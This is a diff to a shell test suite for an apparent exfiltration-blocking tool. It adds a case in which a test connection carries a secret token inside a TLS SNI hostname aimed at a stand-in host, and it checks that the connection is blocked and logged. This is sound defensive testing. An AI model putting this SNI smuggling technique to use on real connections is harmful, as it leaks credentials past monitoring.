@@ -134,6 +134,18 @@ like "$(sed -n 2p <<<"$RF_OUT")" '^socks REP=2' "a SOCKS5 host holding the place
 like "$(sed -n 3p <<<"$RF_OUT")" '^socks REP=0' "... the control (SOCKS5 to other.test) works"
 is $(($(exfils) - n0)) 2 "... secret.exfil recorded for both"
 
+if [ -s "$TH/cert.pem" ]; then
+	n0=$(exfils)
+	er "${INJ[@]}" -- sh -c 'python3 ec.py connect svc.test:8443 "x$TOKEN.svc.test"
+		python3 ec.py connect svc.test:8443 svc.test'
+	like "$(sed -n 2p <<<"$RF_OUT")" '^tls failed' "a TLS SNI holding the placeholder: the tunnel is closed"
+	like "$(sed -n 4p <<<"$RF_OUT")" '^tls ok' "... the control (SNI svc.test) completes its handshake"
+	is $(($(exfils) - n0)) 1 "... secret.exfil recorded"
+	like "$(records | grep '"secret.exfil"' | tail -1)" '"where":"TLS SNI"' "... where: TLS SNI"
+else
+	skip "the SNI case" "no openssl for the test host's certificate"
+fi
+
 # ---- on_exfil "kill" ----------------------------------------------------------------------------
 cat >"$WS/kill.json" <<JSON
 {"version": 1,
